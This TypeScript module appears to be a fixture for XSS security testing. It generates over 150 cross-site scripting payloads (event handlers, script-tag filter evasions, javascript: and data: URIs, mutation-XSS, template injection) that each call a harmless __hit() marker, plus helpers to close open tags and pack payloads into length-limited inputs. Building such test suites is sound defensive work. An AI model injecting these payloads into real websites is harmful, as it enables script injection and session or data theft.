/** What every payload calls where it runs. */
const run = '__hit()';

const events: [tag: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['iframe srcdoc=x', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['marquee', 'onstart'],
  ['div style=animation-name:x', 'onanimationstart'],
  ['p contenteditable tabindex=1 autofocus', 'onfocus'],
  ['a href=#', 'onmouseover'],
  ['form', 'onformdata'],
];

const handlers = events.flatMap(([tag, event]) => [
  `<${tag} ${event}=${run}>`,
  `"><${tag} ${event}="${run}">`,
  `'/><${tag}/${event}='${run}'//`,
  `</textarea></title></script><${tag.toUpperCase()} ${event.toUpperCase()}=${run}>`,
]);

const scripts = [
  `<script>${run}</script>`,
  `<script >${run}</script >`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><script>${run}</script></math>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `\u0000<script>${run}</script>`,
  `<\u0000script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
];

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript://%0a',
  'data:text/html,<script>parent.__hit()</script>//',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoKTwvc2NyaXB0Pg==',
  'vbscript:',
  'blob:',
].flatMap((scheme) => [
  `<a href="${scheme}${run}">x</a>`,
  `<iframe src="${scheme}${run}"></iframe>`,
  `<form action="${scheme}${run}"><button autofocus>x</button></form>`,
]);

const others = [
  `<base href="javascript:${run}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<iframe srcdoc="<script>parent.__hit()</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x">`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a>`,
  `<math href="javascript:${run}">x</math>`,
  `<img src="x" style="background:url(javascript:${run})">`,
  `<div style="width:expression(${run})">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<img src=1 srcset=",x" onerror=${run}>`,
  `<img src=\`x\` onerror=${run}>`,
  `<img """><script>${run}</script>">`,
  `<a onclick=${run} class="ql-align-center" data-list="bullet">x</a>`,
  `<ol><li data-list="bullet" onclick=${run}>x</li></ol>`,
  `<p class="ql-size-large' onmouseover='${run}">x</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noembed><img title="</noembed><img src onerror=${run}>">`,
  `<x onfocus=${run} tabindex=0 autofocus>`,
  `<xss contenteditable onbeforeinput=${run}>`,
  `" autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `" onerror=${run} src=x "`,
  `';${run};//`,
  `";${run};//`,
  `\`;${run};//`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{${run}}`,
  `</title><svg onload=${run}>`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  `[x](javascript:${run})`,
  `![x](x" onerror="${run})`,
];

/** More than 150 ways to inject a script; each calls `__hit()` where it runs. */
export const payloads: readonly string[] = [...new Set([...scripts, ...others, ...addresses, ...handlers])];

/** Closes whatever a payload left open, so that those after it are not read as a part of it. */
export const closeEverything = `"'>--></script></style></textarea></title></noscript></template></option></xml></svg></math></form></a>`;

/** Joins the payloads into texts of at most `limit` characters; leaves longer payloads out. */
export function packPayloads(limit: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter((item) => item.length <= limit)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length + 1 <= limit) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
